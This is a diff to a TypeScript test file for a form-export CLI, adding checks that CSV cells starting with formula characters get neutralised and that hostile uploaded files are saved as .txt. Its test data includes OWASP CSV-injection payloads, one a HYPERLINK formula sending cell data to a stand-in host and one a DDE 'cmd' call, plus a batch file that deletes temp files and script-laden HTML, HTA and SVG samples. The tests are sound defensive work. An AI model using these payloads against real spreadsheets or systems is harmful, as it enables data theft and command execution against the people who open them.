@@ -7,9 +7,10 @@ import { endpoints } from '../../src/api/endpoints';
 import { formDefinitions, type FieldDefinition, type FormValues, type WirePayload } from '../../src/forms/definitions';
 import { payloadToFormEntries } from '../../src/forms/definitions/payload';
 import { FINANCE_WARNING, runExportCommand, UsageError } from '../../src/server/export/cli';
+import { toCsv } from '../../src/server/export/csv';
 import { addGrantee } from '../../src/server/grantees';
 import type { RunningServer } from '../../src/server/main';
-import { validFinanceCrypto, validProjectGrants } from '../unit/forms/definitions/fixtures';
+import { validFinanceCrypto, validOfficeHours, validProjectGrants } from '../unit/forms/definitions/fixtures';
 import { createRestartableStorage, type RestartableStorage } from './support/restartableServer';
 import { postJson } from './support/testServer';
 
@@ -110,9 +111,9 @@ describe('npm run export', () => {
     await expect(run('--form', 'project-grants', '--since', 'ayer')).rejects.toThrow(UsageError);
   });
 
-  it('writes the uploaded file, byte for byte, under its original name', async () => {
+  it("writes the uploaded file, byte for byte, under the original name's stem and the sniffed type's extension", async () => {
     const { stderr } = await run('--file', submissionId);
-    const written = path.join(outputDir, `${submissionId}-${PROPOSAL_NAME}`);
+    const written = path.join(outputDir, `${submissionId}-propuesta_versión_final.pdf`);
     expect(fs.readFileSync(written).equals(PROPOSAL)).toBe(true);
     expect(stderr).toContain(PROPOSAL_NAME);
     // Never over an existing file.
@@ -130,5 +131,85 @@ describe('npm run export', () => {
     expect(record).toContain(validFinanceCrypto().ethAddress);
     expect(stdout).not.toContain(financeSecurityId);
     expect(stderr).not.toContain(validFinanceCrypto().ethAddress);
+  });
+});
+
+/** OWASP's CSV injection starts: each would run as a formula in a spreadsheet app. */
+const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A2)', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
+
+describe('CSV is safe by default (OWASP CSV injection)', () => {
+  it('neutralises a cell starting with =, +, -, @, TAB or CR with a leading single quote; raw leaves it as sent', () => {
+    const rows = FORMULAS.map((formula) => ['1', formula, 'texto normal', 'a=b']);
+    const [, ...safe] = parse(toCsv(['id', 'answer', 'plain', 'inner'], rows), { bom: true }) as string[][];
+    expect(safe.map((row) => row[1])).toEqual(FORMULAS.map((formula) => `'${formula}`));
+    expect(safe.map((row) => row.slice(2))).toEqual(FORMULAS.map(() => ['texto normal', 'a=b']));
+    const [, ...raw] = parse(toCsv(['id', 'answer', 'plain', 'inner'], rows, { raw: true }), { bom: true }) as string[][];
+    expect(raw.map((row) => row[1])).toEqual(FORMULAS);
+  });
+});
+
+describe('npm run export, hostile answers and files', () => {
+  let storage: RestartableStorage;
+  const outputDir = fs.mkdtempSync(path.join(os.tmpdir(), 'export-hostile-'));
+  const sentValues: Record<string, string> = {};
+  const files: Record<string, { id: string; bytes: Buffer }> = {};
+  const run = async (...args: string[]): Promise<string> => {
+    let stdout = '';
+    await runExportCommand(args, { stdout: (text) => (stdout += text), stderr: () => undefined }, { env: storage.env, projectDir, outputDir });
+    return stdout;
+  };
+  const officeHours = formDefinitions['office-hours'];
+  /** Content a double click would run or render, sent under its own extension; the server stores it as text. */
+  const HOSTILE_FILES: Record<string, string> = {
+    'proposal.html': '<!doctype html><script>alert(1)</script>',
+    'proposal.hta': '<hta:application id="x"><script>alert(1)</script>',
+    'proposal.bat': '@echo off\r\ndel /q %TEMP%\\*\r\n',
+    'proposal.svg': '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+  };
+
+  beforeAll(async () => {
+    storage = await createRestartableStorage();
+    const server = await storage.start({});
+    try {
+      const values = validOfficeHours();
+      const freeText = officeHours.fields.filter((field) => isFreeText(field) && (!field.visibleWhen || field.visibleWhen(values)));
+      freeText.forEach((field, index) => (values[field.name] = FORMULAS[index % FORMULAS.length]!.slice(0, field.maxLength)));
+      const payload = officeHours.toPayload(values);
+      for (const field of freeText) sentValues[field.label] = String(payload[field.name]);
+      expect((await postJson(server.address + endpoints.officeHours.path, payload)).status).toBe(201);
+
+      for (const [name, content] of Object.entries(HOSTILE_FILES)) {
+        const body = new FormData();
+        for (const [field, value] of payloadToFormEntries(definition.toPayload(validProjectGrants()))) body.append(field, value);
+        const bytes = Buffer.from(content);
+        body.append('uploadProposal', new Blob([new Uint8Array(bytes)]), name);
+        const response = await fetch(server.address + endpoints.projectGrants.path, { method: 'POST', body });
+        expect(response.status, name).toBe(201);
+        files[name] = { id: ((await response.json()) as { id: string }).id, bytes };
+      }
+    } finally {
+      await server.stop();
+    }
+  });
+  afterAll(async () => {
+    await storage.close();
+    fs.rmSync(outputDir, { recursive: true, force: true });
+  });
+
+  it('writes formula-like answers neutralised, and as sent with --raw', async () => {
+    expect(Object.keys(sentValues).length).toBeGreaterThanOrEqual(FORMULAS.length);
+    const [headers, record] = parse(await run('--form', 'office-hours'), { bom: true }) as string[][];
+    const cells = Object.fromEntries(headers!.map((header, index) => [header, record![index]!]));
+    for (const [label, sent] of Object.entries(sentValues)) expect(cells[label], label).toBe(/^[=+\-@\t\r]/.test(sent) ? `'${sent}` : sent);
+    const [rawHeaders, rawRecord] = parse(await run('--form', 'office-hours', '--raw'), { bom: true }) as string[][];
+    const rawCells = Object.fromEntries(rawHeaders!.map((header, index) => [header, rawRecord![index]!]));
+    for (const [label, sent] of Object.entries(sentValues)) expect(rawCells[label], label).toBe(sent);
+  });
+
+  it.each(Object.keys(HOSTILE_FILES))('names the fetched copy of %s by its sniffed type (.txt), never its own extension', async (name) => {
+    const { id, bytes } = files[name]!;
+    await run('--file', id);
+    expect(fs.readdirSync(outputDir).filter((file) => file.startsWith(`${id}-`))).toEqual([`${id}-proposal.txt`]);
+    expect(fs.readFileSync(path.join(outputDir, `${id}-proposal.txt`)).equals(bytes)).toBe(true);
   });
 });
